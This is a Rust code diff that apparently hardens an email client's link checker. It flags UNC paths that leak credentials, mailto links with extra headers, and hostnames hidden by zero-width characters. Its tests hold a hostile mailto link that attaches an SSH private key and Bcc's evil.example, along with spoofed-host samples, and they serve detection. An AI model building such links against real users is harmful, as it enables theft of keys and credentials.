@@ -37,11 +37,33 @@ fn mentions_sentinel(href: &str) -> bool {
     href.to_ascii_lowercase().contains(SENTINEL_HOST)
 }
 
-/// Analyses one link as displayed with `text` and pointing at `href`.
-pub fn analyze(text: &str, href: &str) -> Link {
+/// `\\server\share`, `//server/share` and mixes: a network path, which Windows resolves as UNC
+/// (SMB, leaking credentials) when there is no web base.
+fn is_network_path(href: &str) -> bool {
+    let t = href.trim_start_matches(|c: char| c.is_ascii_whitespace() || c.is_ascii_control());
+    let mut chars = t.chars();
+    matches!(
+        (chars.next(), chars.next()),
+        (Some('/' | '\\'), Some('/' | '\\'))
+    )
+}
+
+/// Analyses one link as displayed with `text` and pointing at `href`, resolved against the
+/// document's `<base>` if it has one.
+pub fn analyze(text: &str, href: &str, base: Option<&Url>) -> Link {
     let text_line = SafeLine::new(text, MAX_TEXT_CHARS);
     let mut warnings = Vec::new();
-    let url = match parse_href(href.trim(), None) {
+    if base.is_none() && is_network_path(href) {
+        warnings.push(Code::DangerousScheme);
+        return Link {
+            text: text_line,
+            url: SafeLine::new(href.trim(), MAX_URL_CHARS),
+            host: None,
+            warnings,
+            activatable: false,
+        };
+    }
+    let url = match parse_href(href.trim(), base) {
         Ok(u) => u,
         Err(relative) => {
             warnings.push(if relative {
@@ -62,6 +84,9 @@ pub fn analyze(text: &str, href: &str) -> Link {
     let activatable = ACTIVATABLE.contains(&scheme);
     if !activatable {
         warnings.push(Code::DangerousScheme);
+    }
+    if scheme == "mailto" && mailto_has_extras(&url) {
+        warnings.push(Code::MailtoExtra);
     }
     if !url.username().is_empty() || url.password().is_some() {
         warnings.push(Code::Userinfo);
@@ -108,6 +133,16 @@ pub fn analyze(text: &str, href: &str) -> Link {
     }
 }
 
+/// True if a mailto URL carries header fields beyond to, cc, subject and body.
+fn mailto_has_extras(url: &Url) -> bool {
+    url.query_pairs().any(|(k, _)| {
+        !matches!(
+            k.to_ascii_lowercase().as_str(),
+            "to" | "cc" | "subject" | "body"
+        )
+    })
+}
+
 fn mailto_domain(url: &Url) -> Option<String> {
     let path = percent_decode(url.path());
     let first = path.split(',').next()?;
@@ -142,7 +177,14 @@ const FILE_LIKE: &[&str] = &[
 /// email address or a bare domain. Full-width and other compatibility forms are folded first.
 pub(crate) fn host_named_in_text(text: &str) -> Option<String> {
     use unicode_normalization::UnicodeNormalization;
-    let folded: String = text.nfkc().collect::<String>().to_lowercase();
+    // Invisible characters inside a name ("pay\u{200B}pal.example") must not hide it.
+    let visible: String = text
+        .chars()
+        .filter(|&c| {
+            !quietpost_model::text::is_invisible(c) && !quietpost_model::text::is_bidi_control(c)
+        })
+        .collect();
+    let folded: String = visible.nfkc().collect::<String>().to_lowercase();
     for token in folded.split(|c: char| c.is_whitespace() || "<>\"'()[]{},;|".contains(c)) {
         let mut t = token;
         let has_scheme = if let Some(i) = t.find("://") {
@@ -227,7 +269,32 @@ mod tests {
     use super::*;
 
     fn codes(text: &str, href: &str) -> Vec<Code> {
-        analyze(text, href).warnings
+        super::analyze(text, href, None).warnings
+    }
+
+    fn analyze(text: &str, href: &str) -> Link {
+        super::analyze(text, href, None)
+    }
+
+    #[test]
+    fn unc_and_base_and_mailto_extras() {
+        let l = analyze("report", "\\\\server\\share\\report.docx");
+        assert!(
+            !l.activatable && l.warnings.contains(&Code::DangerousScheme),
+            "{l:?}"
+        );
+        assert!(!analyze("x", "//server/share").activatable);
+        let base = Url::parse("https://base.example/assets/").unwrap();
+        let l = super::analyze("account", "account", Some(&base));
+        assert_eq!(l.url.as_str(), "https://base.example/assets/account");
+        assert!(
+            codes(
+                "x",
+                "mailto:a@example.com?attach=/home/u/.ssh/id_rsa&bcc=e@evil.example"
+            )
+            .contains(&Code::MailtoExtra)
+        );
+        assert!(codes("x", "mailto:a@example.com?subject=hi&body=there").is_empty());
     }
 
     #[test]
@@ -246,6 +313,11 @@ mod tests {
         assert!(codes("bank.example", "https://www.bank.example/x").is_empty());
         assert!(codes("Download report.pdf", "https://files.example/report.pdf").is_empty());
         assert!(codes("Click here", "https://files.example/").is_empty());
+        assert!(
+            codes("pay\u{200B}pal.example", "https://evil.example/")
+                .contains(&Code::TextHostMismatch)
+        );
+        assert!(codes("ｐａｙｐａｌ.example", "https://paypal.example/").is_empty());
     }
 
     #[test]
